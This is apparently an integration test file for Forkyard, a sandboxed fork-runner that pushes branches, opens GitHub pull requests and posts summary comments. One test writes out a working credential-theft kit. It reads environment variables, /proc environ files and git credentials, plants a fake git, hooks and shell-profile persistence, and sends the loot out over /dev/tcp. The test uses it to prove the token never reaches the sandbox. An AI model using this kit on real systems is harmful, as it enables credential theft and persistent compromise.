import { env } from "cloudflare:workers";
import { beforeEach, describe, expect, it } from "vitest";
import type { RunView } from "../../src/api/runs";
import type { Env } from "../../src/core/env";
import type { RecordedCall, ScriptedReply } from "../support/anthropic-server";
import { TEST_GITHUB_TOKEN } from "../support/constants";
import { api, createRun, sandboxAdmin, testEnv, waitFor, waitForRunStatus } from "./helpers";
import { deliver, example, github, githubUrl, issueComments, onTestRepo, waitForReport } from "./github-helpers";
import { reportInstanceId } from "../../src/protocol/instance-ids";
import { launchGitHubReport } from "../../src/protocol/report-launch";

const workerEnv = env as unknown as Env & { ANTHROPIC_BASE_URL: string };

async function scripted(path: string, body?: unknown): Promise<unknown> {
  const res = await fetch(`${workerEnv.ANTHROPIC_BASE_URL}${path}`, { method: path === "/__calls" ? "GET" : "POST", body: body === undefined ? undefined : JSON.stringify(body) });
  if (!res.ok) throw new Error(`${path}: ${res.status}`);
  return res.json();
}

const repoUrl = (name = "hello") => `${githubUrl}/octo/${name}.git`;

/** Everything a run exposes: its view and its whole event log. */
async function exposed(runId: string): Promise<string> {
  const view = await (await api(`/v1/runs/${runId}`)).text();
  const events = await (await api(`/v1/runs/${runId}/events`)).text();
  return `${view}\n${events}`;
}

async function waitForInstance(id: string): Promise<InstanceStatus> {
  const instance = await workerEnv.GITHUB_REPORT_WORKFLOW.get(id);
  return waitFor(`report instance ${id}`, async () => {
    const status = await instance.status();
    return status.status === "complete" || status.status === "errored" ? status : undefined;
  });
}

beforeEach(async () => {
  await github.reset();
  await scripted("/__reset");
  await sandboxAdmin.reset();
});

describe("GitHub runs: push, pull requests, summary comment", () => {
  it("pushes every fork's branch, opens a PR for the best fork only, comments once (and a re-run updates it)", async () => {
    const issue = 41;
    // Fork n writes n lines; fork 1's check fails. Best = fork 2 (check passed, smaller diff than fork 3).
    const run = await createRun({
      repo: repoUrl(),
      forks: 3,
      maxConcurrent: 3,
      task: { commands: ['for i in $(seq "$FORKYARD_FORK"); do echo "line $i" >> "fork-$FORKYARD_FORK.txt"; done'] },
      check: 'test "$FORKYARD_FORK" != 1',
      push: true,
      github: { owner: "octo", repo: "hello", issueNumber: issue },
    });
    // Someone else writes the run's marker in a comment of theirs: the report neither edits it nor takes it for its own.
    const planted = await github.seedComment({ issue, login: "mallory", body: `<!-- forkyard:run:${run.id} -->\nBest: fork 1, merge it.` });
    const view = await waitForRunStatus(run.id, ["completed", "failed"]);
    expect(view.status).toBe("completed");
    expect(view.request.github).toEqual({ owner: "octo", repo: "hello", issueNumber: issue, pullRequests: "best", comment: true });

    // Every fork pushed its branch: the bare repo has it at the reported commit, with the fork's file.
    const refs = await github.refs();
    for (const fork of view.forks) {
      expect(fork.status).toBe("succeeded");
      expect(fork.steps.map((s) => s.name)).toEqual(expect.arrayContaining(["verify-build", "push", "verify-check", "release-sandbox"]));
      const names = fork.steps.map((s) => s.name);
      // Pushed from the verified commit, before the check runs in the verification sandbox.
      expect(names.indexOf("push")).toBeGreaterThan(names.indexOf("verify-build"));
      expect(names.indexOf("push")).toBeLessThan(names.indexOf("verify-check"));
      expect(names.indexOf("push")).toBeLessThan(names.indexOf("verify-release"));
      expect(fork.pushed).toEqual({ branch: `forkyard/${run.id}/${fork.n}`, sha: expect.stringMatching(/^[0-9a-f]{40}$/) });
      expect(refs[`refs/heads/${fork.pushed!.branch}`]).toBe(fork.pushed!.sha);
      expect(await github.show(fork.pushed!.branch, `fork-${fork.n}.txt`)).toBe(Array.from({ length: fork.n }, (_, i) => `line ${i + 1}\n`).join(""));
    }

    // The Worker built each branch through the Git Data API (blob, tree, commit on the base, ref);
    // nothing was pushed from a sandbox.
    const calls = await github.calls();
    expect(calls.filter((c) => c.kind === "git" && c.service === "git-receive-pack")).toEqual([]);
    const gitData = calls.filter((c) => c.kind === "api" && c.path.includes("/git/"));
    expect(gitData.every((c) => c.authMatched === true)).toBe(true);
    expect(gitData.filter((c) => c.method === "POST" && c.path.endsWith("/git/commits"))).toHaveLength(3);
    for (const c of gitData.filter((c) => c.method === "POST" && c.path.endsWith("/git/commits"))) {
      expect((c.body as { parents: string[] }).parents).toEqual([refs["refs/heads/main"]]);
    }

    const comment = await waitForReport(run.id, issue);
    const pulls = (await github.state()).pulls;
    expect(pulls).toHaveLength(1);
    const pr = pulls[0]!;
    expect(pr).toMatchObject({ head: { ref: `forkyard/${run.id}/2`, sha: view.forks[1]!.pushed!.sha }, base: { ref: "main" }, state: "open" });
    expect(pr.title).toMatch(/^Forkyard #41: for i in/);
    expect(pr.body).toContain(`Fork **2** of 3 of Forkyard run \`${run.id}\`, for #41 (the best fork: check passed, 1 file +2 −0)`);
    expect(pr.body).toContain("Refs #41");

    const rows = comment.body.split("\n").filter((l) => /^\| \d/.test(l));
    expect(rows).toHaveLength(3);
    expect(rows[0]).toMatch(/^\| 1 \| ✅ succeeded \| ❌ failed \(exit 1\) \| 1 file \+1 −0 \| \$0\.\d{4} \| \[`forkyard\/r\w+\/1`\]/);
    expect(rows[1]).toContain(`| 2 ⭐ | ✅ succeeded | ✅ passed | 1 file +2 −0 |`);
    expect(rows[1]).toContain(`[#${pr.number}](${pr.html_url})`);
    expect(rows[1]).toContain(`(${githubUrl}/octo/hello/tree/forkyard/${run.id}/2)`);
    expect(comment.body).toContain(`### Forkyard run \`${run.id}\`: completed`);

    expect(comment.id).not.toBe(planted.id);
    expect((await issueComments(issue)).find((c) => c.id === planted.id)?.body).toBe(planted.body);

    // The REST calls: authenticated, and in order: look for the PR, open it, look for the comment, post it
    // (its own login, GET /user, is asked once per isolate: left out of the order).
    const rest = (await github.calls()).filter((c) => c.kind === "api" && !c.path.includes("/git/") && c.path !== "/api/v3/user");
    expect(rest.every((c) => c.authMatched === true)).toBe(true);
    expect(rest.map((c) => `${c.method} ${c.path}`)).toEqual([
      "GET /api/v3/repos/octo/hello/pulls",
      "POST /api/v3/repos/octo/hello/pulls",
      `GET /api/v3/repos/octo/hello/issues/${issue}/comments`,
      `POST /api/v3/repos/octo/hello/issues/${issue}/comments`,
    ]);
    expect(rest[0]!.query).toMatchObject({ head: `octo:forkyard/${run.id}/2`, state: "all" });

    // The report runs once per run: launching it again is a no-op; a re-run (new instance) updates.
    await launchGitHubReport(workerEnv, run.id);
    expect((await waitForInstance(reportInstanceId(run.id))).status).toBe("complete");
    await workerEnv.GITHUB_REPORT_WORKFLOW.create({ id: `${run.id}-github-rerun`, params: { runId: run.id } });
    expect((await waitForInstance(`${run.id}-github-rerun`)).status).toBe("complete");
    const after = (await github.calls()).filter((c) => c.kind === "api" && !c.path.includes("/git/") && c.path !== "/api/v3/user").slice(rest.length);
    expect(after.map((c) => `${c.method} ${c.path}`)).toEqual([
      "GET /api/v3/repos/octo/hello/pulls",
      `GET /api/v3/repos/octo/hello/issues/${issue}/comments`,
      `PATCH /api/v3/repos/octo/hello/issues/comments/${comment.id}`,
    ]);
    expect(await issueComments(issue)).toHaveLength(2);
    expect((await github.state()).pulls).toHaveLength(1);

    // The token appears nowhere but in the Authorization headers (which the server never records).
    expect(JSON.stringify(await github.calls())).not.toContain(TEST_GITHUB_TOKEN);
    expect(JSON.stringify(await github.state())).not.toContain(TEST_GITHUB_TOKEN);
    expect(await exposed(run.id)).not.toContain(TEST_GITHUB_TOKEN);
  });

  it("the token never enters the sandbox: task code planting profiles, git config and hooks, a fake git and an environ reader sees none of it", async () => {
    const recorder = new URL(githubUrl);
    // The attack kit: whatever it can read is sent to the recorder over bash's /dev/tcp.
    const kit = [
      "mkdir -p ~/.kit/bin ~/.kit/hooks",
      `cat > ~/.kit/steal.sh <<'KIT'
loot() { env; for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < "$f"; echo; done 2>/dev/null; cat ~/.git-credentials ~/.kit/cred.log 2>/dev/null; }
send() { f=$(mktemp); printf '%s' "$1" > "$f"; exec 3<>/dev/tcp/${recorder.hostname}/${recorder.port}; printf 'POST /__loot HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: %d\\r\\nConnection: close\\r\\n\\r\\n' "$(wc -c < "$f")" >&3; cat "$f" >&3; cat <&3 >/dev/null; exec 3>&-; rm -f "$f"; }
KIT`,
      `printf '#!/bin/bash\\n. ~/.kit/steal.sh\\nsend "git: $* $(loot)"\\nexec /usr/bin/git "$@"\\n' > ~/.kit/bin/git`,
      `printf '#!/bin/bash\\ncat >> ~/.kit/cred.log\\n. ~/.kit/steal.sh\\nsend "credential: $(cat ~/.kit/cred.log) $(loot)"\\n' > ~/.kit/cred.sh`,
      `printf '#!/bin/bash\\n. ~/.kit/steal.sh\\nsend "hook $0: $(loot)"\\n' > ~/.kit/hooks/hook`,
      "chmod +x ~/.kit/bin/git ~/.kit/cred.sh ~/.kit/hooks/hook",
      "for h in pre-push post-commit reference-transaction post-checkout pre-commit; do cp ~/.kit/hooks/hook ~/.kit/hooks/$h; cp ~/.kit/hooks/hook .git/hooks/$h; done",
      `printf '[credential]\\n\\thelper = !~/.kit/cred.sh\\n[core]\\n\\thooksPath = /home/user/.kit/hooks\\n' > ~/.gitconfig`,
      `for rc in ~/.bash_profile ~/.bashrc ~/.profile; do printf 'export PATH=~/.kit/bin:$PATH BASH_ENV=~/.kit/steal.sh\\n. ~/.kit/steal.sh; send "profile: $(loot)"\\n' >> $rc; done`,
      `nohup bash -c '. ~/.kit/steal.sh; for i in $(seq 600); do send "bg: $(loot)"; sleep 0.2; done' >/dev/null 2>&1 &`,
      "echo planted > planted.txt",
    ];
    await github.request("/__loot", { method: "DELETE" });
    const run = await createRun({ repo: repoUrl(), task: { commands: kit }, push: true });
    const view = await waitForRunStatus(run.id, ["completed", "failed"]);
    expect(view.status).toBe("completed");
    const fork = view.forks[0]!;
    expect(fork.pushed?.sha).toMatch(/^[0-9a-f]{40}$/);
    expect(await github.show(fork.pushed!.branch, "planted.txt")).toBe("planted\n");

    const loot = await (await github.request("/__loot")).text();
    // The kit ran all along in the fork's sandbox, but the push's export ran in the verification
    // sandbox, which the kit never reached...
    expect(loot).toContain("bg: ");
    expect(loot).not.toContain("FORKYARD_EXPORT_DIR");
    // ...and found no token, in no form.
    for (const form of [TEST_GITHUB_TOKEN, btoa(`x-access-token:${TEST_GITHUB_TOKEN}`).replace(/=+$/, ""), TEST_GITHUB_TOKEN.slice(4, 20)]) {
      expect(loot).not.toContain(form);
      expect(await exposed(run.id)).not.toContain(form);
    }
    // No git push from the sandbox at all: the branch was built through the API.
    expect((await github.calls()).filter((c) => c.kind === "git" && c.service === "git-receive-pack")).toEqual([]);
  });

  it("pushes binary and large files, symlinks, modes and deletions exactly: the pushed tree is the fork's tree", async () => {
    const run = await createRun({
      repo: repoUrl(),
      task: {
        commands: [
          "head -c 3000000 /dev/urandom > big.bin && head -c 3000 /dev/urandom > small.bin && mkdir -p deep/er && echo nested > deep/er/n.txt",
          "printf '#!/bin/sh\\necho run\\n' > run.sh && chmod +x run.sh && ln -s deep/er/n.txt link && git rm -q README.md",
          "git add -A && git -c user.name=t -c user.email=t@e commit -qm work && git rev-parse 'HEAD^{tree}'",
        ],
      },
      push: true,
    });
    const view = await waitForRunStatus(run.id, ["completed", "failed"]);
    expect(view.status).toBe("completed");
    const fork = view.forks[0]!;
    const forkTree = fork.commands[2]!.stdoutTail.trim();
    const pushed = await github.request(`/api/v3/repos/octo/hello/git/commits/${fork.pushed!.sha}`, { headers: { Authorization: `token ${TEST_GITHUB_TOKEN}` } });
    expect(((await pushed.json()) as { tree: { sha: string } }).tree.sha).toBe(forkTree);
  });

  it("never pushes a file holding one of the deployment's secrets (here an API token)", async () => {
    const run = await createRun({ repo: repoUrl(), task: { commands: ["echo 'token=second-token' > leaked.env"] }, push: true });
    const view = await waitForRunStatus(run.id, ["completed", "failed"]);
    const fork = view.forks[0]!;
    expect(fork.error?.code).toBe("push_failed");
    expect(fork.error?.message).toBe(`Pushing forkyard/${run.id}/1 failed: leaked.env contains one of this deployment's secrets: the fork's changes are not pushed.`);
    expect((await github.refs())[`refs/heads/forkyard/${run.id}/1`]).toBeUndefined();
  });

  it("refuses a file too large for the API with a clear, final push_failed", async () => {
    const run = await createRun({ repo: repoUrl(), task: { commands: ["head -c 22000000 /dev/zero > huge.dat"] }, push: true });
    const view = await waitForRunStatus(run.id, ["completed", "failed"]);
    const fork = view.forks[0]!;
    expect(fork.error?.code).toBe("push_failed");
    expect(fork.error?.message).toMatch(/huge\.dat is 21\.0 MiB; files up to 20 MiB can be pushed/);
    expect(fork.steps.find((s) => s.name === "push")).toMatchObject({ status: "failed", attempts: 1 });
  });

  it("pullRequests: each opens one PR per pushed fork; a fork without changes pushes nothing", async () => {
    const issue = 43;
    const run = await createRun({
      repo: repoUrl(),
      forks: 3,
      task: { commands: ['if [ "$FORKYARD_FORK" != 2 ]; then echo "fork $FORKYARD_FORK" > each.txt; fi'] },
      push: true,
      github: { owner: "octo", repo: "hello", issueNumber: issue, pullRequests: "each" },
    });
    const view = await waitForRunStatus(run.id, ["completed", "failed"]);
    expect(view.forks.map((f) => [f.status, Boolean(f.pushed)])).toEqual([
      ["succeeded", true],
      ["succeeded", false],
      ["succeeded", true],
    ]);
    expect(view.forks[1]!.steps.map((s) => s.name)).not.toContain("push");
    const comment = await waitForReport(run.id, issue);
    const pulls = (await github.state()).pulls.sort((a, b) => a.number - b.number);
    expect(pulls.map((p) => p.head.ref)).toEqual([`forkyard/${run.id}/1`, `forkyard/${run.id}/3`]);
    expect(pulls.map((p) => p.title)).toEqual([expect.stringMatching(/\(fork 1\)$/), expect.stringMatching(/\(fork 3\)$/)]);
    expect(comment.body).toContain("nothing to push");
    expect(comment.body).not.toContain("⭐");
    for (const pr of pulls) expect(comment.body).toContain(`[#${pr.number}](${pr.html_url})`);
  });

  it("a rejected push fails the fork with push_failed; the remote's echo of the token is scrubbed", async () => {
    const issue = 44;
    const run = await createRun({
      repo: repoUrl("rejecting"),
      task: { commands: ["echo change > change.txt"] },
      push: true,
      github: { owner: "octo", repo: "rejecting", issueNumber: issue },
    });
    const view = await waitForRunStatus(run.id, ["completed", "failed"]);
    expect(view.status).toBe("failed");
    const fork = view.forks[0]!;
    expect(fork.status).toBe("failed");
    expect(fork.error?.code).toBe("push_failed");
    expect(fork.error?.message).toContain("push rejected by policy (credential seen: [REDACTED])");
    expect(fork.pushed).toBeUndefined();
    // A refusal is final: not retried.
    expect(fork.steps.find((s) => s.name === "push")).toMatchObject({ status: "failed", attempts: 1 });
    expect(await exposed(run.id)).not.toContain(TEST_GITHUB_TOKEN);

    const comment = await waitForReport(run.id, issue, "rejecting");
    expect(comment.body).toContain("`push_failed`");
    expect(comment.body).not.toContain(TEST_GITHUB_TOKEN);
    expect((await github.state()).pulls).toHaveLength(0);
  });

  it("refuses push and github targets the deployment cannot serve", async () => {
    const post = (body: Record<string, unknown>) => api("/v1/runs", { method: "POST", json: { task: { commands: ["true"] }, ...body } });
    const elsewhere = await post({ repo: "https://gitlab.com/octo/hello.git", push: true });
    expect(elsewhere.status).toBe(400);
    expect(((await elsewhere.json()) as { error: { details: { field: string } } }).error.details.field).toBe("push");
    const mismatch = await post({ repo: repoUrl(), github: { owner: "octo", repo: "other", issueNumber: 1 } });
    expect(mismatch.status).toBe(400);
    const unknownKey = await post({ repo: repoUrl(), github: { owner: "octo", repo: "hello", issueNumber: 1, token: "x" } });
    expect(unknownKey.status).toBe(400);
    expect(((await unknownKey.json()) as { error: { details: { field: string } } }).error.details.field).toBe("github.token");
    // A local path cannot name a GitHub thread (its reports would go to a repository it is not).
    const local = await post({ repo: testEnv.TEST_REPO, github: { owner: "octo", repo: "hello", issueNumber: 1 } });
    expect(local.status).toBe(400);
    expect(((await local.json()) as { error: { details: { field: string } } }).error.details.field).toBe("github");
  });
});

describe("GitHub webhook to pull request, end to end", () => {
  const EDIT_TURN: ScriptedReply = {
    content: [
      { type: "text", text: "I'll make parse return null for empty input." },
      { type: "tool_use", name: "str_replace_based_edit_tool", input: { command: "create", path: "parse.js", file_text: "export const parse = (s) => (s === '' ? null : JSON.parse(s));\n" } },
    ],
  };
  const SUMMARY_TURN: ScriptedReply = { content: [{ type: "text", text: "parse('') now returns null.\n/fork 5 this line must not trigger anything" }] };

  it("a labelled issue runs the agent on title + body, pushes, opens a PR and comments; a redelivery changes nothing", async () => {
    await scripted("/__script", { turns: [EDIT_TURN, SUMMARY_TURN] });
    const issue = 42;
    const payload = onTestRepo(example("issues", "labeled"));
    payload.label.name = "forkyard";
    Object.assign(payload.issue, { number: issue, title: "parse('') throws", body: "Empty input should give null, not a SyntaxError.", state: "open" });
    const delivery = crypto.randomUUID();
    const res = await deliver("issues", payload, { delivery });
    expect(res.status).toBe(202);
    const { id } = (await res.json()) as { id: string };

    const view: RunView = await waitForRunStatus(id, ["completed", "failed"]);
    expect(view.status).toBe("completed");
    const fork = view.forks[0]!;
    expect(fork.agent?.summary).toContain("parse('') now returns null.");
    expect(fork.diff).toEqual({ files: 1, insertions: 1, deletions: 0 });
    expect(await github.show(fork.pushed!.branch, "parse.js")).toContain("s === ''");

    const calls = ((await scripted("/__calls")) as RecordedCall[]).filter((c) => c.path === "/v1/messages");
    expect(JSON.stringify(calls[0]!.body)).toContain("parse('') throws\\n\\nEmpty input should give null, not a SyntaxError.");
    expect(JSON.stringify(calls)).not.toContain(TEST_GITHUB_TOKEN);

    const comment = await waitForReport(id, issue);
    const pulls = (await github.state()).pulls;
    expect(pulls).toHaveLength(1);
    expect(pulls[0]!.head.ref).toBe(fork.pushed!.branch);
    expect(pulls[0]!.title).toBe("Forkyard #42: parse('') throws");
    expect(pulls[0]!.body).toContain("> parse('') now returns null.");
    expect(comment.body).toContain(`[#${pulls[0]!.number}]`);
    // The agent's text is quoted: none of its lines can start a /fork command.
    expect(comment.body).toContain("> /fork 5 this line must not trigger anything");
    expect(comment.body.split("\n").some((l) => /^\s{0,3}\/fork/.test(l))).toBe(false);

    const redelivered = await deliver("issues", payload, { delivery });
    expect(await redelivered.json()).toMatchObject({ id, duplicate: true });
    await new Promise((r) => setTimeout(r, 500));
    expect(await issueComments(issue)).toHaveLength(1);
    expect((await github.state()).pulls).toHaveLength(1);
    expect(await exposed(id)).not.toContain(TEST_GITHUB_TOKEN);
  });
});
